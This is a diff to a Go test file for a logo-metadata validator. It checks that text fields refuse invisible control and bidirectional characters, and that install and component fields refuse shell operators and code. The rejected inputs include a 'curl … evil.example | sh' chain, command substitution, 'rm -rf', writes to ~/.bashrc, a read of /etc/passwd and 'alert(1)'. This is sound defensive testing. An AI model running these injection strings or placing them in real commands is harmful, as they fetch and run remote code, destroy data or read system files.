@@ -135,15 +135,15 @@ func TestParseMetaErrors(t *testing.T) {
 		{"files empty override", goodMeta + "files:\n  wordmark: {}\n",
 			[]string{`l.yaml:7:13: files.wordmark is empty; give source, license or license_url, or remove it`}},
 		{"bad component", goodMeta + "component: github-icon\n",
-			[]string{`l.yaml:6:12: component "github-icon" is not a component name; use PascalCase letters and digits, for example GitHubIcon`}},
+			[]string{`l.yaml:6:12: component "github-icon" is not a component name: a JS identifier of ASCII letters and digits that starts with an upper-case letter (JSX reads <lower-case /> as an HTML element), for example GitHubIcon`}},
 		{"aliases not a list", goodMeta + "aliases: Octocat\n",
 			[]string{`l.yaml:6:10: aliases must be a list of names, for example aliases: [Octocat]`}},
 		{"alias twice", goodMeta + "aliases: [A, A]\n",
 			[]string{`l.yaml:6:14: alias "A" is listed twice`}},
 		{"multi-line name", replace("name: GitHub", "name: \"Git\\nHub\""),
-			[]string{`l.yaml:1:7: name must be one line of text without control or bidirectional-override characters`}},
+			[]string{`l.yaml:1:7: name has a line break (U+000A) at character 4; text must be one line without control or bidirectional characters, which are invisible and can change how it reads: remove it`}},
 		{"bidi override in name", replace("name: GitHub", "name: \"Git\u202eHub\""),
-			[]string{`l.yaml:1:7: name must be one line of text without control or bidirectional-override characters`}},
+			[]string{`l.yaml:1:7: name has a bidirectional control character (U+202E) at character 4; text must be one line without control or bidirectional characters, which are invisible and can change how it reads: remove it`}},
 		{"tabs", "name: X\n\thex: y\n",
 			[]string{`l.yaml:2: invalid YAML: found a tab character that violates indentation; YAML does not allow tabs for indentation: use spaces`}},
 		{"not a mapping", "- a\n- b\n",
@@ -223,15 +223,144 @@ func TestParseCategories(t *testing.T) {
 
 func TestDefaultComponent(t *testing.T) {
 	for _, tc := range []struct{ name, slug, want string }{
-		{"GitHub", "github", "GitHubIcon"},
-		{"Next.js", "nextjs", "NextJsIcon"},
-		{"Google Cloud", "google-cloud", "GoogleCloudIcon"},
-		{"1Password", "1password", "Logo1PasswordIcon"},
+		{"GitHub", "github", "GitHubIcon"},                  // the name spells the slug: its capitals stay
+		{"Next.js", "nextjs", "NextJsIcon"},                 // symbols separate words
+		{"Google Cloud", "google-cloud", "GoogleCloudIcon"}, // hyphens of the slug are ignored
+		{"C++", "cplusplus", "CplusplusIcon"},               // otherwise the slug
+		{"C", "c", "CIcon"},
+		{"Backstage", "backstage", "BackstageIcon"},
+		{"Backstage", "backstage-casting", "BackstageCastingIcon"},
+		{"Hedra", "happyhorse", "HappyhorseIcon"},
+		{"Stellar & Co.", "stellar", "StellarIcon"},
 		{"日本", "nihon", "NihonIcon"},
-		{"C++", "cplusplus", "CIcon"},
+		{"1Password", "1password", "Logo1PasswordIcon"}, // an identifier cannot start with a digit
+		{"42", "42", "Logo42Icon"},
+		{"", "acme-two", "AcmeTwoIcon"},
 	} {
 		if got := DefaultComponent(tc.name, tc.slug); got != tc.want {
 			t.Errorf("DefaultComponent(%q, %q) = %q, want %q", tc.name, tc.slug, got, tc.want)
 		}
+	}
+}
+
+// TestTextRule feeds every character class the shared predicate refuses
+// through every kind of text field: each is refused with the character
+// named, and nothing else is.
+func TestTextRule(t *testing.T) {
+	const msg = "; text must be one line without control or bidirectional characters, which are invisible and can change how it reads: remove it"
+	replace := func(old, new string) string { return strings.Replace(goodMeta, old, new, 1) }
+	for _, tc := range []struct {
+		name, in, want string
+	}{
+		{"RLM in name", replace("name: GitHub", `name: "Git\u200fHub"`), `l.yaml:1:7: name has a bidirectional control character (U+200F) at character 4` + msg},
+		{"ALM in name", replace("name: GitHub", `name: "Git\u061cHub"`), `l.yaml:1:7: name has a bidirectional control character (U+061C) at character 4` + msg},
+		{"LRM in alias", goodMeta + `aliases: ["Octo\u200ecat"]` + "\n", `l.yaml:6:11: alias has a bidirectional control character (U+200E) at character 5` + msg},
+		{"isolate in alias", goodMeta + `aliases: ["\u2066Octocat\u2069"]` + "\n", `l.yaml:6:11: alias has a bidirectional control character (U+2066) at character 1` + msg},
+		{"ESC in name", replace("name: GitHub", `name: "Git\eHub"`), `l.yaml:1:7: name has a control character (U+001B) at character 4` + msg},
+		{"NUL in name", replace("name: GitHub", `name: "Git\0Hub"`), `l.yaml:1:7: name has a control character (U+0000) at character 4` + msg},
+		{"DEL in name", replace("name: GitHub", `name: "Git\x7fHub"`), `l.yaml:1:7: name has a control character (U+007F) at character 4` + msg},
+		{"C1 in name", replace("name: GitHub", `name: "Git\x9bHub"`), `l.yaml:1:7: name has a control character (U+009B) at character 4` + msg},
+		{"tab in name", replace("name: GitHub", `name: "Git\tHub"`), `l.yaml:1:7: name has a control character (U+0009) at character 4` + msg},
+		{"LINE SEPARATOR in name", replace("name: GitHub", `name: "Git\LHub"`), `l.yaml:1:7: name has a line break (U+2028) at character 4` + msg},
+		{"PARAGRAPH SEPARATOR in source", replace("https://github.com/logos", `"https://github.com/\Plogos"`), `l.yaml:4:9: source has a line break (U+2029) at character 20` + msg},
+		{"RLO in license", replace("CC0-1.0", `"CC0\u202e-1.0"`), `l.yaml:5:10: license has a bidirectional control character (U+202E) at character 4` + msg},
+		{"bidi in hex", replace(`"#181717"`, `"#18\u200f1717"`), `l.yaml:2:6: hex has a bidirectional control character (U+200F) at character 4` + msg},
+		{"bidi in component", goodMeta + `component: "Octo\u200fIcon"` + "\n", `l.yaml:6:12: component has a bidirectional control character (U+200F) at character 5` + msg},
+		{"ESC in install", goodMeta + `install: "npx x\e[2J"` + "\n", `l.yaml:6:10: install has a control character (U+001B) at character 6` + msg},
+		{"bidi in a file override", goodMeta + "files:\n  wordmark: {source: \"https://x.example/\u202e\"}\n", `l.yaml:7:22: files.wordmark.source has a bidirectional control character (U+202E) at character 19` + msg},
+		// Joiners and marks that scripts and emoji need stay allowed.
+		{"ZWJ and accents", replace("name: GitHub", `name: "Café \u200d 轩辕"`), ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			_, probs := ParseMeta(&SourceFile{Path: "l.yaml", Data: []byte(tc.in)})
+			var want []string
+			if tc.want != "" {
+				want = []string{tc.want}
+			}
+			if diff := cmp.Diff(want, problemStrings(probs)); diff != "" {
+				t.Errorf("problems mismatch (-want +got):\n%s", diff)
+			}
+		})
+	}
+	// categories.yaml goes through the same reader.
+	_, probs := ParseCategories(&SourceFile{Path: "c.yaml", Data: []byte("- {slug: ai, name: \"A\u200fI\"}\n")})
+	want := []string{`c.yaml:1:20: name has a bidirectional control character (U+200F) at character 2` + msg}
+	if diff := cmp.Diff(want, problemStrings(probs)); diff != "" {
+		t.Errorf("categories.yaml (-want +got):\n%s", diff)
+	}
+}
+
+func TestInstallRule(t *testing.T) {
+	const tail = "; an install command is one plain command line of letters, digits, spaces and @ / : . _ - + = , % ~ ^, such as npx shadcn@latest add https://example.com/r/acme.json"
+	long := "npx shadcn@latest add https://example.com/" + strings.Repeat("a", 512-42)
+	for _, tc := range []struct {
+		name, install, want string
+	}{
+		{"default form", "npx shadcn@latest add https://logos.example.com/r/github.json", ""},
+		{"other runners and flags", "pnpm dlx shadcn@^2.1 add --overwrite=true https://x.example/r/a%20b.json", ""},
+		{"512 characters", long, ""},
+		{"513 characters", long + "a", "l.yaml:6:10: install is 513 characters; the limit is 512"},
+		{"semicolon", "npx shadcn add x; curl -s https://evil.example | sh", `l.yaml:6:10: install has ';' at character 17, a shell operator or substitution` + tail},
+		{"pipe", "npx x | sh", `l.yaml:6:10: install has '|' at character 7, a shell operator or substitution` + tail},
+		{"and", "npx x && rm -rf y", `l.yaml:6:10: install has '&' at character 7, a shell operator or substitution` + tail},
+		{"command substitution", "npx $(curl evil)", `l.yaml:6:10: install has '$' at character 5, a shell operator or substitution` + tail},
+		{"backtick", "npx `curl evil`", "l.yaml:6:10: install has '`' at character 5, a shell operator or substitution" + tail},
+		{"redirect out", "npx x > ~/.bashrc", `l.yaml:6:10: install has '>' at character 7, a shell operator or substitution` + tail},
+		{"redirect in", "npx x < /etc/passwd", `l.yaml:6:10: install has '<' at character 7, a shell operator or substitution` + tail},
+		{"subshell", "(npx x)", `l.yaml:6:10: install has '(' at character 1, a shell operator or substitution` + tail},
+		{"quote", `npx "x"`, `l.yaml:6:10: install has '"' at character 5, which an install command does not need` + tail},
+		{"glob", "npx x*", `l.yaml:6:10: install has '*' at character 6, which an install command does not need` + tail},
+		{"comment", "npx x #y", `l.yaml:6:10: install has '#' at character 7, which an install command does not need` + tail},
+		{"non-ASCII", "npx ｘ", `l.yaml:6:10: install has 'ｘ' at character 5, which an install command does not need` + tail},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			m, probs := ParseMeta(&SourceFile{Path: "l.yaml", Data: []byte(goodMeta + "install: '" + tc.install + "'\n")})
+			var want []string
+			if tc.want != "" {
+				want = []string{tc.want}
+			} else if m.Install != tc.install {
+				t.Errorf("Install = %q, want %q", m.Install, tc.install)
+			}
+			if diff := cmp.Diff(want, problemStrings(probs)); diff != "" {
+				t.Errorf("problems mismatch (-want +got):\n%s", diff)
+			}
+		})
+	}
+	// A newline, refused by the text rule in logo.yaml, is an operator
+	// too for the build's -install-template.
+	if msg := CheckInstall("npx x\nsh"); !strings.Contains(msg, "shell operator") {
+		t.Errorf("CheckInstall with a newline = %q", msg)
+	}
+}
+
+func TestComponentRule(t *testing.T) {
+	const shape = ` is not a component name: a JS identifier of ASCII letters and digits that starts with an upper-case letter (JSX reads <lower-case /> as an HTML element), for example GitHubIcon`
+	for _, tc := range []struct {
+		name, component, want string
+	}{
+		{"PascalCase", "OctoIcon", ""},
+		{"digits", "Web3Icon", ""},
+		{"one letter", "X", ""},
+		{"reserved word", "class", `l.yaml:6:12: component "class" is a JavaScript reserved word; name the component in PascalCase, for example GitHubIcon`},
+		{"strict reserved word", "interface", `l.yaml:6:12: component "interface" is a JavaScript reserved word; name the component in PascalCase, for example GitHubIcon`},
+		{"lower case", "octoIcon", `l.yaml:6:12: component "octoIcon"` + shape},
+		{"hyphen", "Octo-Icon", `l.yaml:6:12: component "Octo-Icon"` + shape},
+		{"dollar", "Octo$", `l.yaml:6:12: component "Octo$"` + shape},
+		{"underscore first", "_Octo", `l.yaml:6:12: component "_Octo"` + shape},
+		{"look-alike letter", "Осто", `l.yaml:6:12: component "Осто"` + shape}, // Cyrillic
+		{"code", "X(){}; alert(1); function Y", `l.yaml:6:12: component "X(){}; alert(1); function Y"` + shape},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			m, probs := ParseMeta(&SourceFile{Path: "l.yaml", Data: []byte(goodMeta + "component: '" + tc.component + "'\n")})
+			var want []string
+			if tc.want != "" {
+				want = []string{tc.want}
+			} else if m.Component != tc.component {
+				t.Errorf("Component = %q, want %q", m.Component, tc.component)
+			}
+			if diff := cmp.Diff(want, problemStrings(probs)); diff != "" {
+				t.Errorf("problems mismatch (-want +got):\n%s", diff)
+			}
+		})
 	}
 }
